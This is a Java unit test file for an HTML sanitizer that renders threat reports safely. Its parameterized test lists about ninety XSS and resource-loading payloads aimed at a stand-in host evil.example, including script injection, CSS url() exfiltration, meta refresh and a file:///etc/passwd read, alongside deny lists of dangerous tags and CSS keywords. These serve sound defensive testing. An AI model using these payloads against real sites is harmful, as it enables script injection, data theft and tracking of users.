package org.akashi.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import org.akashi.report.SafePage.Mark;
import org.akashi.report.internal.HtmlReportReader;
import org.eclipse.core.runtime.CoreException;
import org.eclipse.core.runtime.NullProgressMonitor;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SafePageTest {

	private static final Set<String> ATTRIBUTES = Set.of("dir", "lang", "colspan", "rowspan", "align", "valign", "bgcolor", "border", "cellpadding",
			"cellspacing", "width", "start", "class", "id", "style", "title", "href", "src", "alt");
	private static final Set<String> NEVER = Set.of("script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea", "select",
			"video", "audio", "source", "track", "link", "base", "svg", "math", "template", "noscript", "portal", "map", "area", "canvas");

	private static SafePage page(String html) throws CoreException {
		ReportFile file = ReportFile.of("page.html", html.getBytes(StandardCharsets.UTF_8));
		ReportText text = new HtmlReportReader().read(file, ReadLimits.DEFAULT, new NullProgressMonitor());
		return SafePage.of(file, text, ReadLimits.DEFAULT);
	}

	private static ReportText text(String html) throws CoreException {
		return new HtmlReportReader().read(ReportFile.of("page.html", html.getBytes(StandardCharsets.UTF_8)), ReadLimits.DEFAULT, new NullProgressMonitor());
	}

	/** The page as a browser would read it. */
	private static Document shown(String html) throws CoreException {
		return Jsoup.parse(page(html).html(List.of(), ""));
	}

	/** Nothing stands in the page that could do or load anything. */
	private static void assertHarmless(String html) throws CoreException {
		Document page = shown(html);
		for (Element element : page.getAllElements()) {
			assertFalse(NEVER.contains(element.normalName()), element::outerHtml);
			boolean ours = element.closest("head") != null;
			for (Attribute attribute : element.attributes()) {
				String name = attribute.getKey().toLowerCase(Locale.ROOT);
				String value = attribute.getValue().toLowerCase(Locale.ROOT).strip();
				assertTrue(ours || ATTRIBUTES.contains(name), element::outerHtml);
				assertTrue(!name.equals("href") || value.startsWith(SafePage.LINK), element::outerHtml);
				assertTrue(!name.equals("src") || value.startsWith("data:image/") && !value.contains("svg"), element::outerHtml);
				assertTrue(!name.equals("style") || isPlain(value), element::outerHtml);
			}
		}
		for (Element style : page.select("style")) {
			assertTrue(isPlain(style.data().toLowerCase(Locale.ROOT)), style::outerHtml);
		}
		assertEquals(4, page.select("meta").size() + page.select("meta[http-equiv=refresh]").size() * 100, "our own only: " + page.head());
		assertEquals(page.head(), page.select("meta").first().parent(), "none in the body");
		assertTrue(page.select("meta[http-equiv=Content-Security-Policy]").attr("content").startsWith("default-src 'none'; img-src data:"), page.head()::outerHtml);
	}

	private static boolean isPlain(String css) {
		return !css.contains("url") && !css.contains("@") && !css.contains("expression") && !css.contains("\\") && !css.contains("image") && !css.contains("src")
				&& !css.contains("behavior") && !css.contains("binding") && !css.contains("content:") && !css.contains("position") && !css.contains("<");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
			"<img src=x onerror=alert(1)>", "<img src=http://evil.example/pixel.gif>", "<img src=//evil.example/p.gif>", "<img src=file:///etc/passwd>",
			"<img srcset='http://evil.example/a.png 1x' src='data:,x'>", "<img src='data:text/html;base64,PHNjcmlwdD4='>",
			"<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='javascript:alert(1)'>", "<img src=`javascript:alert(1)`>", "<img lowsrc=http://evil.example/a>",
			"<img dynsrc=http://evil.example/a>", "<img longdesc=http://evil.example/a usemap=#m ismap>", "<picture><source srcset=http://evil.example/a.png></picture>",
			"<a href='javascript:alert(1)'>x</a>", "<a href=' &#106;avascript:alert(1)'>x</a>", "<a href='http://evil.example/' ping='http://evil.example/ping'>x</a>",
			"<a href='akashi:m1' target=_blank>x</a>", "<iframe src=http://evil.example/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
			"<object data=http://evil.example/x.swf></object>", "<embed src=http://evil.example/x.swf>", "<applet code=X></applet>",
			"<form action=http://evil.example/><input name=a autofocus onfocus=alert(1)><button formaction=http://evil.example/>x</button></form>",
			"<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<body><p>a<meta http-equiv=refresh content='0;url=http://evil.example/'>b",
			"<link rel=stylesheet href=http://evil.example/a.css>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=http://evil.example>",
			"<link rel=prefetch href=http://evil.example/a>", "<link rel=icon href=http://evil.example/favicon.ico>", "<base href=http://evil.example/>",
			"<style>@import url(http://evil.example/a.css);</style>", "<style>@import 'http://evil.example/a.css';p{color:red}</style>",
			"<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style>", "<style>p{background:url(http://evil.example/a.png)}</style>",
			"<style>p{background:u\\72l(http://evil.example/a.png)}</style>", "<style>p{background/**/:ur/**/l(http://evil.example/a)}</style>",
			"<style>@media screen{@import url(http://evil.example/a);p{background-image:url(http://evil.example)}}</style>",
			"<style>p[class^='a']{background:url(//evil.example)}</style>", "<style>p{width:expression(alert(1))}</style>",
			"<style>p{behavior:url(a.htc);-moz-binding:url(http://evil.example/x.xml#x)}</style>", "<style>p::before{content:url(http://evil.example/a)}</style>",
			"<style>p{background:image-set('http://evil.example/a.png' 1x)}</style>", "<style>p{color:red}</style ><script>alert(1)</script>",
			"<style></style/><img src=http://evil.example/a></style>", "<p style='background:url(http://evil.example/a)'>x</p>",
			"<p style='background:url(&quot;http://evil.example/a&quot;)'>x</p>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
			"<p style='list-style-image:url(http://evil.example/a)'>x</p>", "<p style='cursor:url(http://evil.example/a),auto'>x</p>",
			"<p style='width:calc(1px + attr(x))'>x</p>", "<p style='color:var(--x)'>x</p>", "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
			"<table background=http://evil.example/a><tr><td background=http://evil.example/b>x</table>", "<body background=http://evil.example/a onload=alert(1)>x",
			"<svg onload=alert(1)><image href=http://evil.example/a /></svg>", "<svg><style><img src=http://evil.example/a></style></svg>",
			"<math><mtext><style><img src=http://evil.example/a onerror=alert(1)></style></mtext></math>",
			"<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<video poster=http://evil.example/a src=http://evil.example/v></video>",
			"<audio src=http://evil.example/a autoplay></audio>", "<input type=image src=http://evil.example/a>", "<isindex action=http://evil.example type=image>",
			"<template><script>alert(1)</script></template>", "<noscript><img src=http://evil.example/a></noscript>",
			"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<textarea><script>alert(1)</script></textarea>",
			"<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
			"<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='http://evil.example/a.css'?>",
			"<p id='\"><script>alert(1)</script>'>x</p>", "<p title='\"><script>alert(1)</script>'>x</p>", "<p class=\"a' onclick='alert(1)\">x</p>",
			"<blockquote cite=http://evil.example/>x</blockquote>", "<q cite=http://evil.example/>x</q>", "<del cite=http://evil.example/>x</del>",
			"<frameset><frame src=http://evil.example/></frameset>", "<portal src=http://evil.example/></portal>", "<x-y onclick=alert(1) is=a-b>x</x-y>",
			"<map name=m><area href=http://evil.example/></map>", "<marquee onstart=alert(1)>x</marquee>", "<details open ontoggle=alert(1)>x</details>",
			"<p contenteditable tabindex=1 autofocus onfocus=alert(1) accesskey=x>x</p>", "<p\u0000onclick=alert(1)>x</p>", "<img/src=x/onerror=alert(1)//>" })
	void attacksAreGone(String attack) throws CoreException {
		assertHarmless("<html><body><p>Before.</p>" + attack + "<p>Behind.</p></body></html>");
		assertHarmless("<html><head>" + attack + "</head><body><p>Text.</p></body></html>");
	}

	@Test
	void whatIsToBeSeenStays() throws CoreException {
		Document page = shown("""
				<html><head><style>h2 {color: #336699} .note { background-color: rgb(255, 250, 220); padding: 4px }</style></head><body>
				<h2>Indicators</h2><p class=note style="font-weight:bold; position:absolute">Take <b>care</b>.</p>
				<table border=1><tr><th>Type<th>Value<tr><td colspan=2>x</table>
				<img alt="A chart" src="data:image/png;base64,iVBORw0KGgo="></body></html>
				""");
		assertEquals("Indicators", page.select("h2").text());
		assertEquals("font-weight:bold;", page.select("p.note").attr("style"));
		assertEquals("2", page.select("td").attr("colspan"));
		assertTrue(page.select("img").attr("src").startsWith("data:image/png;base64,"));
		assertTrue(page.select("style").first().data().contains("h2{color:#336699;}"), page.select("style")::outerHtml);
		assertTrue(page.select("style").first().data().contains("rgb(255, 250, 220)"));
	}

	@Test
	void linksLeadNowhereAndSayWhere() throws CoreException {
		Document page = shown("<p>Read <a href='https://evil.example/a?b=c'>this advisory</a> first.</p>");
		assertEquals(0, page.select("a").size());
		assertEquals("this advisory", page.select("span[title=https://evil.example/a?b=c]").text());
	}

	@Test
	void aPictureThatIsNotThereShowsItsDescription() throws CoreException {
		Document page = shown("<p>See</p><img src=chart.png alt='Chain of the attack in four steps'>");
		assertEquals("Chain of the attack in four steps", page.select("span[class$=missing]").text());
	}

	private static final String REPORT = """
			<html><body><nav><a href=/>Home</a></nav><h1>The Sharpshooter server</h1>
			<p>The <b>Lazarus</b> Group used Rising&nbsp;Sun &amp; others against banks in Germany.</p>
			<p>It talks to 185[.]12[.]45[.]78 and back.</p><script>document.write('Germany')</script></body></html>
			""";

	private static Mark mark(ReportText text, String what, String key) {
		int start = text.text().indexOf(what);
		assertTrue(start >= 0, text.text());
		return new Mark(start, start + what.length(), key, "open");
	}

	@Test
	void placesOfTheTextAreMarked() throws CoreException {
		ReportText text = text(REPORT);
		SafePage page = page(REPORT);
		List<Mark> marks = List.of(mark(text, "Lazarus Group", "1"), mark(text, "Germany", "2"), mark(text, "185[.]12[.]45[.]78", "3"));
		Document shown = Jsoup.parse(page.html(marks, "$open { color: green }"));
		assertEquals("Lazarus Group", String.join("", shown.select("a[href=akashi:1]").eachText()).replace("LazarusG", "Lazarus G"));
		assertEquals(2, shown.select("a[href=akashi:1]").size(), "one part within the bold element, one behind it");
		assertEquals("Germany", shown.select("a[href=akashi:2]").text());
		assertEquals("185[.]12[.]45[.]78", shown.select("a[href=akashi:3]").text());
		String name = shown.select("a[href=akashi:2]").attr("class").split(" ")[1];
		assertTrue(shown.select("style").last().data().contains("." + name + " { color: green }"), shown.select("style")::outerHtml);
		assertEquals(1, shown.select("[id=" + page.anchor(marks.get(0)) + "]").size());
		assertEquals(marks, page.shown(marks));
	}

	@Test
	void eachBlockHasAPlaceToGoTo() throws CoreException {
		ReportText text = text(REPORT);
		SafePage page = page(REPORT);
		Document shown = Jsoup.parse(page.html(List.of(), ""));
		int offset = text.text().indexOf("talks");
		Element place = shown.getElementById(page.anchor(offset));
		assertEquals("It talks to 185[.]12[.]45[.]78 and back.", place.parent().text());
	}

	@Test
	void theWordOfAScriptIsNoPlace() throws CoreException {
		SafePage page = page("<p>First.</p><script>var country = 'Germany';</script><p>Second.</p>");
		assertFalse(page.html(List.of(), "").contains("Germany"));
	}

	@Test
	void namesOfOurOwnCannotBeKnown() throws CoreException {
		assertFalse(page(REPORT).anchor(5).equals(page(REPORT).anchor(5)), "they differ each time");
	}

	@Test
	void keysOfMarksCannotSmuggle() {
		assertThrows(IllegalArgumentException.class, () -> new Mark(0, 1, "1\"><script>", "open"));
		assertThrows(IllegalArgumentException.class, () -> new Mark(0, 1, "1", "open x"));
	}

	@Test
	void nestingWithoutEndIsHarmless() throws CoreException {
		assertHarmless("<div>".repeat(20_000) + "<b onclick=alert(1)>deep</b>");
	}

	@Test
	void aPageThatIsTooLargeForABrowserSaysSo() throws CoreException {
		String html = "<p>" + "x".repeat(12_500_000) + "</p>";
		ReportFile file = ReportFile.of("page.html", html.getBytes(StandardCharsets.UTF_8));
		ReportText text = new ReportText("x", List.of(), List.of(), ReportMetadata.ofType("text/html"), List.of(), List.of(), List.of());
		CoreException fault = assertThrows(CoreException.class, () -> SafePage.of(file, text, ReadLimits.DEFAULT));
		assertEquals(ReportStatus.TOO_LARGE, fault.getStatus().getCode());
		assertTrue(fault.getMessage().contains("Read its text"), fault.getMessage());
	}
}
